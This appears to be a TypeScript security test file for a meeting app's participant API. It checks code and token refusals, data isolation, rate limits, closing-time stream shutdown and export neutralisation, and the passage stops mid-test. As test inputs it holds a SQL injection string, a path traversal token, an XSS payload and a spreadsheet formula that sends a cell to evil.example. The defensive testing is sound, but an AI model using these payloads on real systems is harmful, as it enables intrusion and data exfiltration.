/**
 * A bijeenkomst's participant routes (`config.auth: 'participant'`, generated from the route table) against
 * every way a join code or a participant token can fail: made up, malformed, empty, missing, of a planned or
 * a closed meeting, sent somewhere else than where it belongs, or replaced by a signed-in account (an
 * account is no participant). Each gets the same 404 with the same words and changes nothing. A working
 * token reaches only its own meeting and its own contributions, sees the werkruimte's spelers by name and
 * kracht only, and no one else's name; what it sends stays text, up to the werkruimte's exports. Wrong codes
 * are counted per address (wrong tokens are not), joining is limited per address and a participant's
 * changes per token. Closing a meeting ends every participant's rights at once, live streams included.
 */
import type { AddressInfo } from 'node:net';
import { parse as parseCsv } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import type { InjectOptions, LightMyRequestResponse } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { meetingParticipation } from '../../src/contract/index.ts';
import type {
  Contribution,
  Meeting,
  MeetingEvent,
  ParticipantView,
  Workspace,
} from '../../src/domain/index.ts';
import type { RouteEntry } from '../../src/server/plugins/route-table.ts';
import { CONTRIBUTIONS_PER_MINUTE } from '../../src/services/index.ts';
import { buildTestApp, type TestApp, withSession } from '../helpers/build-test-app.ts';
import { BACKENDS } from '../helpers/test-database.ts';
import {
  API,
  apiRoutes,
  expectProblem,
  join,
  loadRouteTable,
  NO_SUCH_ID,
  newActor,
  newContribution,
  newMeeting,
  newParticipant,
  newTopic,
  routeKey,
  stateOf,
  unique,
  validRequest,
  type World,
  workspaceUrl,
} from './support.ts';

const ROUTES = apiRoutes(await loadRouteTable()).filter((route) => route.auth === 'participant');

/** The contract's endpoint of a route. */
function endpointOf(route: RouteEntry) {
  const found = Object.values(meetingParticipation).find(
    (candidate) =>
      typeof candidate === 'object' &&
      `${API}${candidate.path}` === route.url &&
      candidate.method === route.method,
  );
  if (!found || typeof found !== 'object') throw new Error(`no contract endpoint for ${routeKey(route)}`);
  return found;
}

/** Door and join take the code in their body; every other participant route the token in the header. */
function takesCode(route: RouteEntry): boolean {
  const { body } = endpointOf(route) as { body?: unknown };
  return body instanceof z.ZodObject && 'code' in body.shape;
}

/** Whether the route reads a JSON body at all (a strict one: an unknown field is refused). */
const hasBody = (route: RouteEntry) => (endpointOf(route) as { body?: unknown }).body !== undefined;

const CODE_ROUTES = ROUTES.filter(takesCode);
const TOKEN_ROUTES = ROUTES.filter((route) => !takesCode(route));

interface CaseContext {
  world: World;
  workspace: Workspace;
  /** The route's valid request: a working code or token, everything else as it should be. */
  request: InjectOptions;
}

interface BrokenCase {
  /** The request to send instead. */
  make(c: CaseContext): Promise<InjectOptions>;
  /**
   * Refused as a malformed request (400) rather than as a code that does not work (404): the body lacks a
   * field it must have, or holds one it may not have. Still nothing changed, and nothing said about codes.
   */
  malformed?: (route: RouteEntry) => boolean;
}

type Json = Record<string, unknown>;

const payloadOf = (request: InjectOptions) => ({ ...(request.payload as Json | undefined) });
const headersOf = (request: InjectOptions) => ({
  ...(request.headers as Record<string, string> | undefined),
});

/** The valid request with another code (left out when undefined); a meeting's own group goes with it. */
function withCode(request: InjectOptions, code: string | undefined, meeting?: Meeting): InjectOptions {
  const { code: _valid, ...rest } = payloadOf(request);
  const group = meeting && 'groupId' in rest ? { groupId: meeting.groups[0]?.id } : {};
  return { ...request, payload: { ...rest, ...group, ...(code === undefined ? {} : { code }) } };
}

/** The valid request with another Authorization header (none when undefined). */
function withAuthorization(request: InjectOptions, value: string | undefined): InjectOptions {
  const { authorization: _valid, ...headers } = headersOf(request);
  return { ...request, headers: value === undefined ? headers : { ...headers, authorization: value } };
}

const tokenOf = (request: InjectOptions) => headersOf(request).authorization?.replace(/^Bearer /, '') ?? '';

/** Closes a meeting as the facilitator (the administrator). */
async function closeMeeting(t: TestApp, workspace: Workspace, meeting: Meeting): Promise<void> {
  const url = `${workspaceUrl(workspace)}/meetings/${meeting.id}`;
  const current = (await t.inject(url)).json() as Meeting;
  const closed = await t.inject({
    method: 'PATCH',
    url,
    payload: { version: current.version, state: 'closed' },
  });
  expect(closed.statusCode, closed.body).toBe(200);
}

const MADE_UP_CODE = 'QQQQQQ';
const MADE_UP_TOKEN = 'Q'.repeat(43);

/** Ways a join code fails, for the routes that take one. */
const BROKEN_CODES: Record<string, BrokenCase> = {
  'a made-up code': { make: async ({ request }) => withCode(request, MADE_UP_CODE) },
  'a malformed code': { make: async ({ request }) => withCode(request, "' OR 1=1 --") },
  'an empty code': { make: async ({ request }) => withCode(request, '') },
  'no code at all': { make: async ({ request }) => withCode(request, undefined), malformed: () => true },
  'the code of a planned meeting': {
    make: async ({ world, workspace, request }) => {
      const planned = await newMeeting(world.t, workspace, { open: false });
      return withCode(request, planned.code, planned);
    },
  },
  'the code of a closed meeting': {
    make: async ({ world, workspace, request }) => {
      const closed = await newMeeting(world.t, workspace);
      await closeMeeting(world.t, workspace, closed);
      return withCode(request, closed.code, closed);
    },
  },
  'the code in the query string instead of the body': {
    make: async ({ request }) => ({
      ...withCode(request, undefined),
      url: `${request.url}?code=${String(payloadOf(request).code)}`,
    }),
    malformed: () => true,
  },
  'a signed-in account with a made-up code': {
    make: async ({ world, request }) => withSession(world.t.admin, withCode(request, MADE_UP_CODE)),
  },
};

/**
 * Ways a participant token fails, for the routes that take one. (No token of a planned meeting exists:
 * joining needs an open one.)
 */
const BROKEN_TOKENS: Record<string, BrokenCase> = {
  'a made-up token': { make: async ({ request }) => withAuthorization(request, `Bearer ${MADE_UP_TOKEN}`) },
  'a malformed token': {
    make: async ({ request }) => withAuthorization(request, 'Bearer ../../etc/passwd'),
  },
  'an empty token': { make: async ({ request }) => withAuthorization(request, 'Bearer ') },
  'no token at all': { make: async ({ request }) => withAuthorization(request, undefined) },
  'a working token without the Bearer scheme': {
    make: async ({ request }) => withAuthorization(request, tokenOf(request)),
  },
  'the join code of an open meeting instead of a token': {
    make: async ({ world, workspace, request }) =>
      withAuthorization(request, `Bearer ${(await newMeeting(world.t, workspace)).code}`),
  },
  'a token of a closed meeting': {
    make: async ({ world, workspace, request }) => {
      const { meeting, token } = await newParticipant(world.t, workspace);
      await closeMeeting(world.t, workspace, meeting);
      return withAuthorization(request, `Bearer ${token}`);
    },
  },
  'a working token in the query string instead of the header': {
    make: async ({ request }) => {
      const url = new URL(request.url as string, 'http://localhost');
      url.searchParams.set('token', tokenOf(request));
      return { ...withAuthorization(request, undefined), url: `${url.pathname}${url.search}` };
    },
  },
  'a working token in the body instead of the header': {
    make: async ({ request }) => ({
      ...withAuthorization(request, undefined),
      payload: { ...payloadOf(request), token: tokenOf(request) },
    }),
    // A route with a body schema refuses the unknown field; one without never reads it.
    malformed: hasBody,
  },
  'a signed-in account without a token': {
    make: async ({ world, request }) => withSession(world.t.admin, withAuthorization(request, undefined)),
  },
};

/** A body is only sent with a method that has one. */
const applies = (name: string, route: RouteEntry) =>
  !(name.includes('in the body') && route.method === 'GET');

const MATRIX = [
  ...CODE_ROUTES.flatMap((route) =>
    Object.entries(BROKEN_CODES).map(([name, broken]) => [routeKey(route), name, route, broken] as const),
  ),
  ...TOKEN_ROUTES.flatMap((route) =>
    Object.entries(BROKEN_TOKENS)
      .filter(([name]) => applies(name, route))
      .map(([name, broken]) => [routeKey(route), name, route, broken] as const),
  ),
];

/** Only characters of the alphabet the codes are made of. */
const CODE_PATTERN = /^[ABCDEFGHJKMNPQRSTUVWXYZ23456789]{6}$/;

/** Attacks on a browser or a spreadsheet, in what a participant types. */
const MARKUP = '<img src=x onerror=alert(1)>';
const FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"klik")';
const DANGEROUS_START = /^[=+\-@\t\r]/;

/** A participant's call: the token in the Authorization header. */
function asParticipant(
  token: string,
  method: 'GET' | 'POST' | 'PUT' | 'DELETE',
  path: string,
  payload?: Json,
  remoteAddress?: string,
): InjectOptions {
  return {
    method,
    url: `${API}/meeting-participation${path}`,
    headers: { authorization: `Bearer ${token}` },
    ...(payload ? { payload } : {}),
    ...(remoteAddress ? { remoteAddress } : {}),
  };
}

/** Joins a meeting as a phone from `remoteAddress` would: the token and the view. */
async function joinAs(
  t: TestApp,
  meeting: Meeting,
  nickname: string | null,
  group = 0,
  remoteAddress?: string,
): Promise<{ token: string; view: ParticipantView }> {
  const response = await t.app.inject({
    method: 'POST',
    url: `${API}/meeting-participation/join`,
    payload: { code: meeting.code, groupId: meeting.groups[group]?.id, nickname },
    ...(remoteAddress ? { remoteAddress } : {}),
  });
  expect(response.statusCode, response.body).toBe(201);
  return response.json();
}

async function sent(response: LightMyRequestResponse): Promise<Contribution> {
  expect(response.statusCode, response.body).toBe(201);
  return response.json();
}

/** Accepts a contribution as the facilitator. */
async function accept(t: TestApp, workspace: Workspace, meeting: Meeting, contributionId: string) {
  const response = await t.inject({
    method: 'POST',
    url: `${workspaceUrl(workspace)}/meetings/${meeting.id}/contributions/${contributionId}/decision`,
    payload: { decision: 'accept' },
  });
  expect(response.statusCode, response.body).toBe(200);
  return response.json() as Contribution;
}

describe.each(BACKENDS)('bijeenkomst participants on %s', (backend) => {
  let t: TestApp;
  let world: World;
  let workspace: Workspace;

  beforeAll(async () => {
    t = await buildTestApp(backend, {
      rateLimits: {
        login: { max: 10_000, windowMs: 60_000 },
        write: { max: 100_000, windowMs: 60_000 },
        meetingJoin: { max: 100_000, windowMs: 60_000 },
        meetingCodeFailures: { max: 100_000, windowMs: 60_000 },
        participant: { max: 100_000, windowMs: 60_000 },
      },
    });
    world = { t, doel: await t.signUp('doel@example.org', 'Doel') };
    workspace = await t.createWorkspace({ name: 'Kaart met geheimen' });
  });
  afterAll(() => t.close());

  it('has participant routes to check, each taking a code or a token', () => {
    expect(CODE_ROUTES.map(routeKey).sort()).toEqual([
      'POST /api/v1/meeting-participation/door',
      'POST /api/v1/meeting-participation/join',
    ]);
    expect(TOKEN_ROUTES.length).toBeGreaterThanOrEqual(5);
    expect(MATRIX.length).toBeGreaterThanOrEqual(50);
  });

  let firstProblem: { title: string; detail?: string } | undefined;

  it.each(MATRIX)(
    '%s with %s: 404 with one message for all (400 if malformed), nothing changed',
    async (_key, _name, route, broken) => {
      // A werkruimte of its own per case, so proving that nothing changed stays cheap.
      const place = await t.createWorkspace({ name: 'Kaart met geheimen' });
      const request = await validRequest(route, world, place);
      expect(takesCode(route) ? payloadOf(request).code : tokenOf(request)).toBeTruthy();
      const attempt = await broken.make({ world, workspace: place, request });
      const before = await stateOf(t.store, place.id);
      const response = await t.app.inject(attempt);
      if (broken.malformed?.(route)) {
        // Incomplete or over-complete: a 400 that names the field, and still no answer about codes or tokens.
        const problem = expectProblem(response, 400, 'validation');
        expect(problem.invalidParams?.map((param) => param.name)).toEqual(
          expect.arrayContaining([expect.stringMatching(/^(code|token)$/)]),
        );
      } else {
        const problem = expectProblem(response, 404, 'meeting_code');
        firstProblem ??= { title: problem.title, detail: problem.detail };
        expect({ title: problem.title, detail: problem.detail }).toEqual(firstProblem);
        expect(problem.detail).toMatch(/^Controleer de code/);
      }
      expect(response.body).not.toContain('Kaart met geheimen');
      expect(response.headers['set-cookie']).toBeUndefined();
      expect(await stateOf(t.store, place.id)).toEqual(before);
    },
  );

  it.each(ROUTES.map((route) => [routeKey(route), route] as const))(
    '%s works with a working code or token, also next to a signed-in account',
    async (_key, route) => {
      // The control for the refusals above: the valid request succeeds, and an account's session beside
      // it neither helps nor hinders. (Sent twice: each of these calls may be repeated.)
      const request = await validRequest(route, world, workspace);
      for (const response of [await t.inject(request), await t.app.inject(request)]) {
        expect(response.statusCode, response.body).toBeGreaterThanOrEqual(200);
        expect(response.statusCode, response.body).toBeLessThan(300);
        expect(response.headers['cache-control']).toMatch(/no-store/);
        if (response.statusCode !== 204)
          expect(response.headers['content-type']).toMatch(/^application\/json/);
      }
    },
  );

  it('refuses a participant’s change from another site (the browser says so)', async () => {
    const { token } = await newParticipant(t, workspace);
    const before = await stateOf(t.store, workspace.id);
    const response = await t.app.inject({
      ...asParticipant(token, 'POST', '/contributions', { kind: 'actor', name: 'Van elders', force: 'rijk' }),
      headers: {
        authorization: `Bearer ${token}`,
        origin: 'https://elders.example',
        'sec-fetch-site': 'cross-site',
      },
    });
    expectProblem(response, 403, 'csrf');
    expect(await stateOf(t.store, workspace.id)).toEqual(before);
  });

  it('reaches only its own meeting, its own contributions and spelers of its own werkruimte', async () => {
    const topic = await newTopic(t, workspace);
    const meeting = await newMeeting(t, workspace, { topicId: topic.id });
    const anna = await joinAs(t, meeting, 'Anna');
    const bram = await joinAs(t, meeting, 'Bram', 1);
    // Another meeting of the same werkruimte, with a pending and an accepted contribution.
    const elsewhere = await newContribution(t, workspace);
    const acceptedElsewhere = await newContribution(t, workspace);
    await accept(t, workspace, acceptedElsewhere.meeting, acceptedElsewhere.contributionId);
    const brams = await sent(
      await t.app.inject(
        asParticipant(bram.token, 'POST', '/contributions', {
          kind: 'actor',
          name: 'Van Bram',
          force: 'rijk',
        }),
      ),
    );
    const other = await t.createWorkspace({ name: 'Andere werkruimte' });
    const [own, foreign] = [
      await newActor(t, workspace),
      await newActor(t, other, { name: 'Vreemde speler' }),
    ];

    const before = { target: await stateOf(t.store, workspace.id), other: await stateOf(t.store, other.id) };
    const as = (request: InjectOptions) => t.app.inject(request);
    // Withdrawing what is not one's own: another participant's, another meeting's, one that does not exist.
    for (const id of [brams.id, elsewhere.contributionId, acceptedElsewhere.contributionId, NO_SUCH_ID]) {
      const refused = await as(asParticipant(anna.token, 'DELETE', `/contributions/${id}`));
      expect(expectProblem(refused, 409, 'conflict').reason).toBe('contribution_not_yours');
    }
    // Reacting to another meeting's accepted contribution: as if it were not there.
    const reaction = await as(
      asParticipant(anna.token, 'PUT', `/contributions/${acceptedElsewhere.contributionId}/reaction`, {
        verdict: 'klopt_niet',
      }),
    );
    expect(expectProblem(reaction, 409, 'conflict').reason).toBe('contribution_not_accepted');
    // Spelers of another werkruimte cannot be named, in a tie or in a place on the vraagstuk.
    for (const [content, names] of [
      [{ kind: 'tie', sourceId: own.id, targetId: foreign.id, type: 'werkt_samen' }, ['targetId']],
      [
        { kind: 'tie', sourceId: foreign.id, targetId: NO_SUCH_ID, type: 'financiert' },
        ['sourceId', 'targetId'],
      ],
      [{ kind: 'position', actorId: foreign.id, invloed: 3, belang: 3, standpunt: 1 }, ['actorId']],
    ] as const) {
      const refused = await as(asParticipant(anna.token, 'POST', '/contributions', { ...content }));
      const problem = expectProblem(refused, 400, 'validation');
      expect(problem.invalidParams?.map((param) => [param.name, param.code])).toEqual(
        names.map((name) => [name, 'actor_not_in_workspace']),
      );
      expect(refused.body).not.toContain(foreign.name);
    }
    // No field names another participant, meeting or werkruimte.
    for (const smuggled of [
      { participantId: NO_SUCH_ID },
      { meetingId: NO_SUCH_ID },
      { workspaceId: other.id },
    ]) {
      const refused = await as(
        asParticipant(anna.token, 'POST', '/contributions', {
          kind: 'actor',
          name: 'Ergens anders',
          force: 'rijk',
          ...smuggled,
        }),
      );
      expectProblem(refused, 400, 'validation');
    }
    expect({ target: await stateOf(t.store, workspace.id), other: await stateOf(t.store, other.id) }).toEqual(
      before,
    );

    // What Anna sees: nothing of the other meeting, nothing of Bram's that is still pending.
    const view = await as(asParticipant(anna.token, 'GET', '/view'));
    expect(view.statusCode, view.body).toBe(200);
    expect((view.json() as ParticipantView).contributions).toEqual([]);
    for (const hidden of [brams.id, elsewhere.contributionId, acceptedElsewhere.contributionId, 'Van Bram']) {
      expect(view.body).not.toContain(hidden);
    }
    const events = await as(asParticipant(anna.token, 'GET', '/events?after=0'));
    for (const hidden of [brams.id, 'Van Bram', 'Bram']) expect(events.body).not.toContain(hidden);
  });

  it('shows a participant the spelers by id, name and kracht only, and no one else’s name', async () => {
    const SECRETS = [
      'Geheime kaart',
      'Geheim beleidsplan',
      'Geheime wijk',
      'Geheime achtergrond',
      'Geheim motief',
      'Geheime rol',
      'Geheime tag',
      'Geheime bron',
      'Geheime afspraak',
      'Geheim perspectief',
      'doel@example.org',
      'beheer@example.org',
      'Beheerder',
    ];
    const place = await t.createWorkspace({
      name: 'Geheime kaart',
      description: 'Geheim beleidsplan',
      wijken: ['Geheime wijk'],
    });
    const profile = {
      achtergrond: 'Geheime achtergrond',
      motieven: 'Geheim motief',
      rol: 'Geheime rol',
      tags: ['Geheime tag'],
      wijken: ['Geheime wijk'],
      sources: ['Geheime bron'],
    };
    const first = await t.createActor(place.id, { name: 'Wijkcentrum', force: 'bewoner', ...profile });
    const second = await t.createActor(place.id, { name: 'Zorgaanbieder', force: 'instelling', ...profile });
    await t.createRelation(place.id, first.id, second.id, { description: 'Geheime afspraak' });
    await t.inject({
      method: 'POST',
      url: `${workspaceUrl(place)}/perspectives`,
      payload: { name: 'Geheim perspectief', force: 'rijk' },
    });
    await join(t, world.doel, place.id, 'redacteur');
    const meeting = await newMeeting(t, place, { name: 'Open avond' });
    const anna = await joinAs(t, meeting, 'Anna');
    const bram = await joinAs(t, meeting, 'Bram', 1);
    const tie = await sent(
      await t.app.inject(
        asParticipant(bram.token, 'POST', '/contributions', {
          kind: 'tie',
          sourceId: first.id,
          targetId: second.id,
          type: 'informeert',
        }),
      ),
    );
    await accept(t, place, meeting, tie.id);
    const reacted = await t.app.inject(
      asParticipant(anna.token, 'PUT', `/contributions/${tie.id}/reaction`, { verdict: 'klopt' }),
    );
    expect(reacted.statusCode, reacted.body).toBe(200);

    const response = await t.app.inject(asParticipant(anna.token, 'GET', '/view'));
    expect(response.statusCode, response.body).toBe(200);
    const view = response.json() as ParticipantView;
    expect(Object.keys(view).sort()).toEqual([
      'actors',
      'contributions',
      'lastEventId',
      'meeting',
      'participant',
      'perMinute',
      'relationTypes',
    ]);
    expect(view.actors).toEqual([
      { id: first.id, name: 'Wijkcentrum', force: 'bewoner' },
      { id: second.id, name: 'Zorgaanbieder', force: 'instelling' },
    ]);
    expect(view.participant).toEqual({
      nickname: 'Anna',
      groupId: meeting.groups[0]?.id,
      groupName: meeting.groups[0]?.name,
    });
    // Bram's accepted tie is public, but not who sent it.
    expect(view.contributions).toHaveLength(1);
    expect(view.contributions[0]).toMatchObject({
      id: tie.id,
      mine: false,
      participantName: null,
      myReaction: 'klopt',
    });
    expect(Object.keys(view.contributions[0]?.actors[0] ?? {}).sort()).toEqual(['force', 'id', 'name']);

    const events = await t.app.inject(asParticipant(anna.token, 'GET', '/events?after=0'));
    expect(events.statusCode, events.body).toBe(200);
    const stream = (events.json() as { events: MeetingEvent[] }).events;
    // How many joined which group is the facilitator's; contributions come without their sender's name.
    expect(stream.map((event) => event.type)).not.toContain('participants');
    for (const event of stream) {
      if (event.type === 'contribution') expect(event.contribution.participantName).toBeNull();
    }
    const door = await t.app.inject({
      method: 'POST',
      url: `${API}/meeting-participation/door`,
      payload: { code: meeting.code },
    });
    expect(Object.keys(door.json()).sort()).toEqual(['description', 'groups', 'name', 'topic']);

    for (const body of [response.body, events.body, reacted.body, door.body]) {
      for (const secret of [...SECRETS, 'Bram', place.id, meeting.code]) expect(body).not.toContain(secret);
    }
    // Bram sees his own name on his own contribution.
    const own = (await t.app.inject(asParticipant(bram.token, 'GET', '/view'))).json() as ParticipantView;
    expect(own.contributions[0]).toMatchObject({ id: tie.id, mine: true, participantName: 'Bram' });
  });

  it('keeps what a participant types inert: stored and returned as the text it was, neutralised in exports', async () => {
    const place = await t.createWorkspace({ name: 'Vreemde namen' });
    const meeting = await newMeeting(t, place);
    const { token, view } = await joinAs(t, meeting, MARKUP);
    expect(view.participant.nickname).toBe(MARKUP);
    const typed = [
      { kind: 'actor', name: MARKUP, force: 'bewoner', why: '@SUM(1+1)' },
      { kind: 'actor', name: FORMULA, force: 'rijk', why: '-2+3' },
    ];
    const contributions: Contribution[] = [];
    for (const content of typed) {
      const response = await t.app.inject(asParticipant(token, 'POST', '/contributions', content));
      expect(response.headers['content-type']).toMatch(/^application\/json/);
      const contribution = await sent(response);
      expect(contribution.content).toEqual(content);
      expect(contribution.participantName).toBe(MARKUP);
      contributions.push(contribution);
    }
    // As given, to the facilitator and back on the phone.
    const queue = (await t.inject(`${workspaceUrl(place)}/meetings/${meeting.id}/contributions`)).json()
      .items as Contribution[];
    expect(queue.map((item) => item.content)).toEqual(typed);
    expect(queue.map((item) => item.participantName)).toEqual([MARKUP, MARKUP]);
    const phone = await t.app.inject(asParticipant(token, 'GET', '/view'));
    expect(phone.headers['content-type']).toMatch(/^application\/json/);
    expect((phone.json() as ParticipantView).contributions.map((item) => item.content)).toEqual(typed);

    // Accepted, they are spelers of the werkruimte under those names …
    for (const contribution of contributions) await accept(t, place, meeting, contribution.id);
    const actors = (await t.inject(`${workspaceUrl(place)}/actors`)).json().items as {
      name: string;
      rol: string;
    }[];
    expect(actors.map((actor) => [actor.name, actor.rol]).sort()).toEqual(
      [
        [MARKUP, '@SUM(1+1)'],
        [FORMULA, '-2+3'],
      ].sort(),
    );
    // … and their exports neutralise every formula-like cell.
    const csv = await t.inject(`${workspaceUrl(place)}/export?format=csv&table=spelers`);
    expect(csv.statusCode, csv.body.slice(0, 300)).toBe(200);
    const cells = (
      parseCsv(csv.body, { delimiter: ';', bom: true, relax_column_count: true }) as string[][]
    ).flat();
    expect(cells.filter((cell) => DANGEROUS_START.test(cell))).toEqual([]);
    expect(cells).toEqual(expect.arrayContaining([`'${FORMULA}`, MARKUP, "'@SUM(1+1)", "'-2+3"]));

    const xlsx = await t.inject(`${workspaceUrl(place)}/export?format=xlsx`);
    expect(xlsx.statusCode).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.rawPayload as never);
    const texts: string[] = [];
    workbook.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.formula, `${sheet.name}!${cell.address}`).toBeFalsy();
          if (typeof cell.value === 'string') texts.push(cell.value);
        }),
      ),
    );
    expect(texts.filter((text) => DANGEROUS_START.test(text))).toEqual([]);
    expect(texts).toEqual(expect.arrayContaining([`'${FORMULA}`, MARKUP, "'@SUM(1+1)", "'-2+3"]));
  });

  it(`keeps at most ${CONTRIBUTIONS_PER_MINUTE} contributions a minute from one participant`, async () => {
    const { meeting, token } = await newParticipant(t, workspace);
    for (let index = 0; index < CONTRIBUTIONS_PER_MINUTE; index += 1) {
      await sent(
        await t.app.inject(
          asParticipant(token, 'POST', '/contributions', {
            kind: 'actor',
            name: `Snel ${index}`,
            force: 'rijk',
          }),
        ),
      );
    }
    const before = await stateOf(t.store, workspace.id);
    const over = await t.app.inject(
      asParticipant(token, 'POST', '/contributions', { kind: 'actor', name: 'Eén te veel', force: 'rijk' }),
    );
    expectProblem(over, 429, 'too_many_requests');
    expect(over.headers['retry-after']).toBe('60');
    expect(await stateOf(t.store, workspace.id)).toEqual(before);
    // Another participant of the same meeting is not held up.
    const other = await joinAs(t, meeting, null);
    await sent(
      await t.app.inject(
        asParticipant(other.token, 'POST', '/contributions', { kind: 'actor', name: 'Ander', force: 'rijk' }),
      ),
    );
  });

  it('records a participant’s change as the meeting’s, never as the account of whoever is signed in', async () => {
    const { meeting, token, contributionId } = await newContribution(t, workspace);
    await accept(t, workspace, meeting, contributionId);
    // t.inject sends the administrator's session cookie and CSRF token along.
    const response = await t.inject(asParticipant(token, 'DELETE', `/contributions/${contributionId}`));
    expect(response.statusCode, response.body).toBe(204);
    const [event] = (await t.inject(`${workspaceUrl(workspace)}/history?pageSize=1`)).json().items;
    expect(event).toMatchObject({
      action: 'contribution.land',
      entityId: contributionId,
      via: 'meeting',
      user: null,
    });
  });

  it('ends every participant’s rights at once when the meeting closes, live streams included', async () => {
    const meeting = await newMeeting(t, workspace);
    const anna = await joinAs(t, meeting, 'Anna');
    const bram = await joinAs(t, meeting, 'Bram', 1);
    const send = (token: string, name: string) =>
      t.app
        .inject(asParticipant(token, 'POST', '/contributions', { kind: 'actor', name, force: 'rijk' }))
        .then(sent);
    const pending = await send(anna.token, unique('Nog open'));
    const accepted = await send(anna.token, unique('Al aanvaard'));
    await accept(t, workspace, meeting, accepted.id);
    const bramsPending = await send(bram.token, unique('Van Bram'));

    // Both phones follow the meeting live, from the last event their view had.
    await t.app.listen({ port: 0, host: '127.0.0.1' });
    const { port } = t.app.server.address() as AddressInfo;
    const follow = async (token: string, after?: number) => {
      const { lastEventId } = (
        await t.app.inject(asParticipant(token, 'GET', '/view'))
      ).json() as ParticipantView;
      const response = await fetch(
        `http://127.0.0.1:${port}${API}/meeting-participation/events?after=${after ?? lastEventId}`,
        {
          headers: { accept: 'text/event-stream', authorization: `Bearer ${token}` },
          signal: AbortSignal.timeout(10_000),
        },
      );
      expect(response.status).toBe(200);
      expect(response.headers.get('content-type')).toMatch(/^text\/event-stream/);
      const reader = (response.body as ReadableStream<Uint8Array>).getReader();
      const decoder = new TextDecoder();
      let text = '';
      let opened: () => void = () => {};
      const ready = new Promise<void>((resolve) => {
        opened = resolve;
      });
      const ended = (async () => {
        for (;;) {
          const { done, value } = await reader.read();
          if (done) return text;
          text += decoder.decode(value, { stream: true });
          if (text.includes(': live')) opened();
        }
      })();
      await Promise.race([ready, ended]);
      return { lastEventId, ended };
    };
    // A third claims to have seen events that never were (a made-up cursor): it must end all the same.
    const streams = [
      await follow(anna.token),
      await follow(bram.token),
      await follow(anna.token, Number.MAX_SAFE_INTEGER),
    ];

    await closeMeeting(t, workspace, meeting);

    // Each stream says the meeting closed, and then ends: the server closes it (else the fetch times out).
    const texts = await Promise.all(streams.map((stream) => stream.ended));
    for (const [index, stream] of streams.entries()) {
      const events = (texts[index] as string)
        .split('\n\n')
        .flatMap((block) => block.split('\n').filter((line) => line.startsWith('data: ')))
        .map((line) => JSON.parse(line.slice('data: '.length)) as MeetingEvent);
      expect(events).toEqual([
        { type: 'meeting', id: expect.any(Number), state: 'closed', name: meeting.name, autoAccept: false },
      ]);
      expect(events[0]?.id).toBeGreaterThan(stream.lastEventId);
    }

    // Every participant route now answers both phones as if their token never worked, and changes nothing.
    const AFTER_CLOSING: Record<string, (token: string) => InjectOptions[]> = {
      'GET /api/v1/meeting-participation/view': (token) => [asParticipant(token, 'GET', '/view')],
      'POST /api/v1/meeting-participation/contributions': (token) => [
        asParticipant(token, 'POST', '/contributions', { kind: 'actor', name: 'Te laat', force: 'rijk' }),
      ],
      'DELETE /api/v1/meeting-participation/contributions/:contributionId': (token) =>
        [pending, accepted, bramsPending].map((own) =>
          asParticipant(token, 'DELETE', `/contributions/${own.id}`),
        ),
      'PUT /api/v1/meeting-participation/contributions/:contributionId/reaction': (token) => [
        asParticipant(token, 'PUT', `/contributions/${accepted.id}/reaction`, { verdict: 'klopt_niet' }),
      ],
      'GET /api/v1/meeting-participation/events': (token) => [
        asParticipant(token, 'GET', '/events?after=0'),
        {
          ...asParticipant(token, 'GET', '/events'),
          headers: { authorization: `Bearer ${token}`, accept: 'text/event-stream' },
        },
      ],
    };
    expect(Object.keys(AFTER_CLOSING).sort()).toEqual(TOKEN_ROUTES.map(routeKey).sort());
    const before = await stateOf(t.store, workspace.id);
    for (const token of [anna.token, bram.token]) {
      for (const request of Object.values(AFTER_CLOSING).flatMap((make) => make(token))) {
        expectProblem(await t.app.inject(request), 404, 'meeting_code');
      }
    }
    for (const path of ['door', 'join']) {
      const response = await t.app.inject({
        method: 'POST',
        url: `${API}/meeting-participation/${path}`,
        payload:
          path === 'door' ? { code: meeting.code } : { code: meeting.code, groupId: meeting.groups[0]?.id },
      });
      expectProblem(response, 404, 'meeting_code');
    }
    expect(await stateOf(t.store, workspace.id)).toEqual(before);
  });

  describe('with small limits', () => {
    let g: TestApp;
    let place: Workspace;
    const LIMITS = { codeFailures: 5, joins: 10, participantWrites: 4 };

    beforeAll(async () => {
      g = await buildTestApp(backend, {
        rateLimits: {
          meetingCodeFailures: { max: LIMITS.codeFailures, windowMs: 60_000 },
          meetingJoin: { max: LIMITS.joins, windowMs: 60_000 },
          participant: { max: LIMITS.participantWrites, windowMs: 60_000 },
        },
      });
      place = await g.createWorkspace({ name: 'Volle zaal' });
    });
    afterAll(() => g.close());

    const door = (code: string, remoteAddress: string) =>
      g.app.inject({
        method: 'POST',
        url: `${API}/meeting-participation/door`,
        payload: { code },
        remoteAddress,
      });

    it('stops an address that keeps trying codes that do not work, never one that tries tokens', async () => {
      const meeting = await newMeeting(g, place);
      const behindBusyAddress = await joinAs(g, meeting, null, 0, '192.0.2.7');

      // Tokens are 256 random bits: wrong ones (a room of phones after the meeting closed) are not counted.
      for (let k = 0; k < 4 * LIMITS.codeFailures; k += 1) {
        const token = `${k}`.padEnd(43, 'x');
        expectProblem(await g.app.inject(asParticipant(token, 'GET', '/view', undefined, '192.0.2.5')), 404);
        const write = asParticipant(token, 'POST', '/contributions', {
          kind: 'actor',
          name: 'X',
          force: 'rijk',
        });
        expectProblem(await g.app.inject({ ...write, remoteAddress: '192.0.2.5' }), 404, 'meeting_code');
      }
      expect((await door(meeting.code, '192.0.2.5')).statusCode).toBe(200);

      // Codes are short: after the limit of wrong ones, the address gets 429 even for the right code.
      for (let k = 0; k < LIMITS.codeFailures; k += 1) {
        const wrong = ['QQQQQQ', 'AAAAAA', 'abc', '', 'ZZZZZ2'][k] as string;
        expectProblem(await door(wrong, '192.0.2.7'), 404, 'meeting_code');
      }
      const before = await stateOf(g.store, place.id);
      const blockedDoor = await door(meeting.code, '192.0.2.7');
      expectProblem(blockedDoor, 429, 'too_many_requests');
      // Told how long: the rest of the one-minute window, in whole seconds.
      const retryAfter = Number(blockedDoor.headers['retry-after']);
      expect(retryAfter).toBeGreaterThan(0);
      expect(retryAfter).toBeLessThanOrEqual(60);
      const blockedJoin = await g.app.inject({
        method: 'POST',
        url: `${API}/meeting-participation/join`,
        payload: { code: meeting.code, groupId: meeting.groups[0]?.id },
        remoteAddress: '192.0.2.7',
      });
